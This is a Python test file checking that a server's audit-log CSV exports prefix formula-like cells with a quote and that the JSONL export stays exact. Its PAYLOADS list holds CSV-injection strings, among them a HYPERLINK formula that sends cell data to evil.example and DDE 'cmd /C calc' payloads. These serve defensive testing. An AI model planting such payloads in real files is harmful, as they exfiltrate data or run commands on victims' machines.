"""The attack: text an agent or a person controls lands in the CSV export as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from typer.testing import CliRunner

from server.cli import app
from server.runtime import Runtime
from server.store import audit
from server.store.db import Store
from tests.admin.web import Visitor

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?d="&A1,"invoice")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _plant(store: Store) -> None:
    with store.write() as session:
        for text in PAYLOADS:
            audit.append(
                session, at=store.now(), event_type="rejected", actor=text, actor_kind="person", reason=text, tool=text
            )


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_defused(rows: list[dict[str, str]]) -> None:
    planted = [row for row in rows if row["event_type"] == "rejected"]
    assert len(planted) == len(PAYLOADS)
    for row, text in zip(planted, PAYLOADS, strict=True):
        for name in ("actor", "reason", "tool"):
            assert row[name] == "'" + text, name


def test_cli_csv_export_prefixes_formula_cells_with_a_quote(store: Store, database_url: str, tmp_path: Path) -> None:
    _plant(store)
    out = tmp_path / "audit.csv"
    result = CliRunner().invoke(
        app, ["audit", "export", "--format", "csv", "--output", str(out), "--database-url", database_url]
    )
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        _assert_defused(_rows(handle.read()))


def test_jsonl_export_keeps_the_same_text_exact_and_verifiable(store: Store, database_url: str, tmp_path: Path) -> None:
    _plant(store)
    out = tmp_path / "audit.jsonl"
    result = CliRunner().invoke(app, ["audit", "export", "--output", str(out), "--database-url", database_url])
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [row["reason"] for row in rows if row["event_type"] == "rejected"] == list(PAYLOADS)
    assert audit.verify_rows(iter(rows)).ok


def test_audit_page_csv_export_prefixes_formula_cells_with_a_quote(admin: Visitor, runtime: Runtime) -> None:
    _plant(runtime.store)
    response = admin.client.get("/admin/audit/export.csv")
    assert response.status_code == 200
    _assert_defused(_rows(response.text))
